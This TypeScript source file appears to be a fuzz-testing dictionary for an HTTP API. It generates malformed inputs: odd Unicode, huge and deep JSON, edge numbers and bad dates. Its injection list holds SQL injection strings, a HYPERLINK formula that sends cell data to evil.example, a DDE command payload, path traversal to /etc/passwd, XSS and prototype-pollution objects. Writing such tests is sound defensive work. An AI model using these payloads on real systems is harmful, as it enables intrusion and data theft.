import fc from 'fast-check';

/**
 * The dictionary of nasty values, in classes that can be switched on and off with FUZZ_CLASSES
 * (comma-separated; `all` or unset = every class; `-name` removes one, e.g. `all,-huge`).
 */
export const NASTY_CLASSES = [
  'nul', // NUL bytes in every position
  'unicode', // lone surrogates, RTL and zero-width marks, BOM, combining storms, invalid UTF-8
  'huge', // 64 KB, 1 MB and (rarely) 10 MB strings, long arrays
  'deep', // nesting 100, 1,000 and 5,000 deep
  'numbers', // int4/int8/2^53 edges, negatives, fractions, 1e308
  'time', // year 0, 9999, leap seconds, +275760, impossible dates and offsets
  'base64', // bad padding, alphabet and truncated zip headers
  'injection', // SQL, formula, template, path and markup payloads
  'proto', // __proto__ / constructor keys, unknown fields
  'types', // wrong JSON types, missing required fields
  'headers', // content types, authorization and idempotency keys
] as const;
export type NastyClass = (typeof NASTY_CLASSES)[number];

export function parseClasses(spec: string | undefined): Set<NastyClass> {
  const out = new Set<NastyClass>();
  const parts = (spec ?? 'all')
    .split(',')
    .map((s) => s.trim())
    .filter(Boolean);
  for (const p of parts.length ? parts : ['all']) {
    const remove = p.startsWith('-');
    const name = remove ? p.slice(1) : p;
    const names = name === 'all' ? NASTY_CLASSES : NASTY_CLASSES.filter((c) => c === name);
    if (!names.length)
      throw new Error(`FUZZ_CLASSES: unknown class ${name} (known: ${NASTY_CLASSES.join(', ')})`);
    for (const n of names) remove ? out.delete(n) : out.add(n);
  }
  return out;
}

/**
 * A value too big to carry around (and to print in a report) as itself: it stays a small token in
 * the drawn request and is expanded when the request is serialised.
 */
export class Big {
  constructor(
    readonly kind: 'string' | 'deep-array' | 'deep-object' | 'array',
    readonly size: number,
    readonly unit = 'a',
  ) {}
  /** The value as JSON text. */
  json(cap = Number.POSITIVE_INFINITY): string {
    const n = Math.min(this.size, cap);
    switch (this.kind) {
      case 'string':
        return JSON.stringify(this.unit.repeat(Math.ceil(n / this.unit.length)).slice(0, n));
      case 'deep-array':
        return `${'['.repeat(n)}${']'.repeat(n)}`;
      case 'deep-object':
        return `${'{"a":'.repeat(n)}1${'}'.repeat(n)}`;
      case 'array':
        return `[${Array.from({ length: n }, () => '1').join(',')}]`;
    }
  }
  /** The value as text for a query string, path or header (capped: a real server refuses longer lines first). */
  text(cap: number): string {
    if (this.kind === 'string')
      return this.unit.repeat(Math.ceil(Math.min(this.size, cap) / this.unit.length));
    return this.json(Math.min(cap, 2000));
  }
  toString(): string {
    const size = this.size >= 1 << 20 ? `${this.size / (1 << 20)} MB` : `${this.size}`;
    return `Big(${this.kind} ${size}${this.kind === 'string' ? ` of ${JSON.stringify(this.unit)}` : ''})`;
  }
  [fc.toStringMethod](): string {
    return this.toString();
  }
}

/**
 * A big value as an arbitrary that draws it at its full size and shrinks its size (so a failure
 * found with a 64 KB string is reported with the shortest string that still fails).
 */
class BigArbitrary extends fc.Arbitrary<Big> {
  private readonly sizes: fc.Arbitrary<number>;
  constructor(private readonly big: Big) {
    super();
    this.sizes = fc.integer({ min: 1, max: big.size });
  }
  generate(): fc.Value<Big> {
    return new fc.Value(this.big, undefined);
  }
  canShrinkWithoutContext(value: unknown): value is Big {
    return value instanceof Big;
  }
  shrink(value: Big, context: unknown): fc.Stream<fc.Value<Big>> {
    return this.sizes
      .shrink(value.size, context)
      .map((v) => new fc.Value(new Big(value.kind, v.value, value.unit), v.context));
  }
}

export function bigArbitrary(big: Big): fc.Arbitrary<Big> {
  return new BigArbitrary(big);
}

/** Draws one of the values; big ones shrink. */
function oneOfValues<T>(values: readonly T[]): fc.Arbitrary<T> {
  const small = values.filter((v) => !(v instanceof Big));
  const bigs = values.filter((v): v is T & Big => v instanceof Big);
  const parts: fc.WeightedArbitrary<T>[] = [];
  if (small.length) parts.push({ weight: small.length, arbitrary: fc.constantFrom(...small) });
  for (const b of bigs) parts.push({ weight: 1, arbitrary: bigArbitrary(b) as unknown as fc.Arbitrary<T> });
  return fc.oneof(...parts);
}

/** An object that carries an own `__proto__` key, the way JSON.parse builds it. */
function protoObject(json: string): unknown {
  return JSON.parse(json);
}

const MB = 1 << 20;

/** Nasty strings, per class. */
const STRINGS: Record<NastyClass, readonly (string | Big)[]> = {
  nul: ['\u0000', 'ad\u0000min', 'TEA-SET-01\u0000', '\u0000\u0000\u0000', 'a\u0000b\u0000c', '%00'],
  unicode: [
    '\ud800',
    'a\udfffb',
    '\udc00\ud800',
    '\u202eRTL\u202c',
    '\u200f\u200e',
    '\u200b',
    '\ufeffBOM',
    '\ufffe\uffff',
    `e${'\u0301'.repeat(200)}`,
    '👩‍👩‍👧‍👦',
    '𠜎𠜱𠝹',
    '\u0085\u2028\u2029',
    '\u001b[31mred',
    '\r\n\t',
    ' ',
    'İı',
  ],
  huge: [new Big('string', 64 * 1024), new Big('string', MB, '茶'), new Big('string', 128 * 1024, '\u0301')],
  deep: [],
  numbers: [],
  time: [
    '0000-01-01T00:00:00Z',
    '9999-12-31T23:59:60Z',
    '2016-12-31T23:59:60Z',
    '2026-06-30T23:59:60+08:00',
    '+275760-09-13T00:00:00Z',
    '+275760-09-13T00:00:00.001Z',
    '-000001-01-01T00:00:00Z',
    '-271821-04-20T00:00:00Z',
    '2026-02-30T00:00:00Z',
    '2026-01-09T24:00:00Z',
    '2026-01-09T00:00:00+25:00',
    '2026-01-09T00:00:00-23:59',
    '1970-01-01T00:00:00Z',
    '1969-12-31T23:59:59.999999999Z',
    '2026-01-09',
    '0000-01-01',
    '9999-12-31',
    '0000-00-00',
    '20260109T000000Z',
    '2026-01-09T00:00:00',
  ],
  base64: [
    '!!!!',
    'YQ',
    'Y===',
    '====',
    '=',
    'a b c',
    'data:text/csv;base64,YQ==',
    'UEsDBA',
    'UEsDBBQAAAAIAA==',
    '%%%',
  ],
  injection: [
    "' OR 1=1--",
    "'; DROP TABLE orders;--",
    '"; SELECT pg_sleep(5);--',
    "%' --",
    '%',
    '_',
    '\\',
    '$1',
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    '@SUM(1)',
    '-2+3',
    '\t=1',
    '\r=1',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection payload, meant literally
    '${7*7}',
    '{{7*7}}',
    '../../../../etc/passwd',
    '..%2f..%2fetc%2fpasswd',
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    'null',
    'undefined',
    'NaN',
    '__proto__',
    'constructor',
  ],
  proto: [],
  types: ['', '0', '-1', 'true', '1e309', '[]', '{}'],
  headers: [],
};

const NUMBERS: readonly number[] = [
  0,
  -1,
  -0,
  1,
  2 ** 31 - 1,
  2 ** 31,
  -(2 ** 31) - 1,
  2 ** 32,
  2 ** 53 - 1,
  2 ** 53,
  2 ** 53 + 2,
  -(2 ** 53),
  2 ** 63,
  1e15,
  1e308,
  -1e308,
  0.5,
  1e-7,
  1.0000000000000002,
  1_000_000_001,
];

const WRONG_TYPES: readonly unknown[] = [
  null,
  true,
  false,
  0,
  '',
  'x',
  '1',
  [],
  [null],
  {},
  { $gt: '' },
  [1, 2, 3],
];

const PROTO_OBJECTS = [
  '{"__proto__":{"isAdmin":true}}',
  '{"constructor":{"prototype":{"isAdmin":true}}}',
  '{"__proto__":null}',
  '{"hasOwnProperty":1,"toString":"x"}',
];

export interface Dictionary {
  classes: ReadonlySet<NastyClass>;
  /** A nasty string, or undefined when no string class is on. */
  string: fc.Arbitrary<string | Big> | undefined;
  number: fc.Arbitrary<number> | undefined;
  /** Any nasty JSON value (wrong types, deep nesting, huge). */
  any: fc.Arbitrary<unknown> | undefined;
  /** Extra keys to slip into objects: `__proto__`, `constructor`, unknown fields. */
  extraKey: fc.Arbitrary<[string, unknown]> | undefined;
  /** A whole body that is not what the route reads (raw text, invalid UTF-8, deep JSON). */
  rawBody: fc.Arbitrary<RawBody> | undefined;
  /** Header values to try. */
  contentType: fc.Arbitrary<string> | undefined;
  authorization: fc.Arbitrary<string> | undefined;
}

export interface RawBody {
  /** What a report shows. */
  label: string;
  bytes: () => Buffer;
}

function rawBodies(classes: ReadonlySet<NastyClass>): RawBody[] {
  const out: RawBody[] = [];
  const text = (label: string, s: string): RawBody => ({ label, bytes: () => Buffer.from(s, 'utf8') });
  if (classes.has('types'))
    out.push(
      text('empty', ''),
      text('not JSON', 'a=b'),
      text('truncated JSON', '{"a":'),
      text('JSON null', 'null'),
      text('JSON string', '"x"'),
      text('JSON array', '[]'),
      text('JSON number 1e400', '1e400'),
      text('duplicate keys', '{"a":1,"a":2}'),
      text('trailing garbage', '{} x'),
    );
  if (classes.has('unicode'))
    out.push(
      {
        label: 'invalid UTF-8 in a string',
        bytes: () => Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0x22, 0x7d]),
      },
      { label: 'UTF-8 surrogate bytes', bytes: () => Buffer.from([0x22, 0xed, 0xa0, 0x80, 0x22]) },
      { label: 'UTF-16LE body', bytes: () => Buffer.from('{"a":"b"}', 'utf16le') },
      text('BOM then JSON', '\ufeff{}'),
    );
  if (classes.has('nul'))
    out.push(text('NUL escape in JSON', '{"a":"\\u0000"}'), text('raw NUL byte', '{"a":"\u0000"}'));
  if (classes.has('deep'))
    out.push(
      { label: '5,000-deep array', bytes: () => Buffer.from(new Big('deep-array', 5000).json()) },
      { label: '100,000-deep array', bytes: () => Buffer.from(new Big('deep-array', 100_000).json()) },
    );
  if (classes.has('proto')) out.push(...PROTO_OBJECTS.map((j) => text(j, j)));
  if (classes.has('huge'))
    out.push({ label: '10 MB JSON string', bytes: () => Buffer.from(new Big('string', 10 * MB).json()) });
  return out;
}

export function dictionary(classes: ReadonlySet<NastyClass>): Dictionary {
  const strings: (string | Big)[] = [];
  for (const c of classes) strings.push(...STRINGS[c]);
  const stringArb = strings.length
    ? fc.oneof(
        { weight: 60, arbitrary: oneOfValues(strings) },
        // The nasty piece inside an otherwise ordinary value, where a prefix check would miss it.
        {
          weight: 30,
          arbitrary: fc
            .tuple(
              fc.constantFrom(...strings.filter((s) => typeof s === 'string')),
              fc.string({ maxLength: 6 }),
            )
            .map(([n, s]) => `${s}${n}${s}`),
        },
        // Rarely, 10 MB: beyond the body limit, and slow to build, so only a few per run.
        ...(classes.has('huge') ? [{ weight: 1, arbitrary: bigArbitrary(new Big('string', 10 * MB)) }] : []),
      )
    : undefined;

  const numberArb = classes.has('numbers')
    ? fc.oneof(
        { weight: 4, arbitrary: fc.constantFrom(...NUMBERS) },
        { weight: 1, arbitrary: fc.double({ noNaN: true, noDefaultInfinity: true }) },
        { weight: 1, arbitrary: fc.integer({ min: -(2 ** 31), max: -1 }) },
      )
    : undefined;

  const anyParts: fc.WeightedArbitrary<unknown>[] = [];
  if (classes.has('types')) anyParts.push({ weight: 4, arbitrary: fc.constantFrom(...WRONG_TYPES) });
  if (classes.has('deep'))
    anyParts.push({
      weight: 1,
      arbitrary: oneOfValues([
        new Big('deep-array', 100),
        new Big('deep-object', 1000),
        new Big('deep-array', 5000),
        new Big('deep-object', 5000),
      ]),
    });
  if (classes.has('huge')) anyParts.push({ weight: 1, arbitrary: bigArbitrary(new Big('array', 100_000)) });
  if (classes.has('proto'))
    anyParts.push({ weight: 1, arbitrary: fc.constantFrom(...PROTO_OBJECTS).map(protoObject) });
  if (stringArb) anyParts.push({ weight: 2, arbitrary: stringArb });
  if (numberArb) anyParts.push({ weight: 2, arbitrary: numberArb });

  const extraKey = classes.has('proto')
    ? fc.oneof(
        fc.constantFrom<[string, unknown]>(
          ['__proto__', { isAdmin: true }],
          ['constructor', { prototype: { isAdmin: true } }],
          ['prototype', {}],
          ['toString', 'x'],
          ['id', 'ord_01HZZZZZZZZZZZZZZZZZZZZZZZ'],
          ['', 1],
        ),
        fc.tuple(fc.string({ minLength: 1, maxLength: 12 }), fc.jsonValue({ maxDepth: 2 })),
      )
    : undefined;

  const raws = rawBodies(classes);
  const headers = classes.has('headers');
  return {
    classes,
    string: stringArb,
    number: numberArb,
    any: anyParts.length ? fc.oneof(...anyParts) : undefined,
    extraKey,
    rawBody: raws.length ? fc.constantFrom(...raws) : undefined,
    contentType: headers
      ? fc.constantFrom(
          'text/plain',
          'application/x-www-form-urlencoded',
          'application/json; charset=latin1',
          'application/json; charset=utf-16',
          'application/problem+json',
          'multipart/form-data; boundary=x',
          'application/jsonx',
          'application/json, text/plain',
          '',
        )
      : undefined,
    authorization: headers
      ? fc.constantFrom(
          'Bearer ',
          'Bearer oh_0000000000000000000000000000000000000000',
          "Bearer ' OR 1=1--",
          'Basic YWRtaW46YWRtaW4=',
          'bearer',
          `Bearer ${'x'.repeat(8000)}`,
          'Bearer a.b.c',
        )
      : undefined,
  };
}
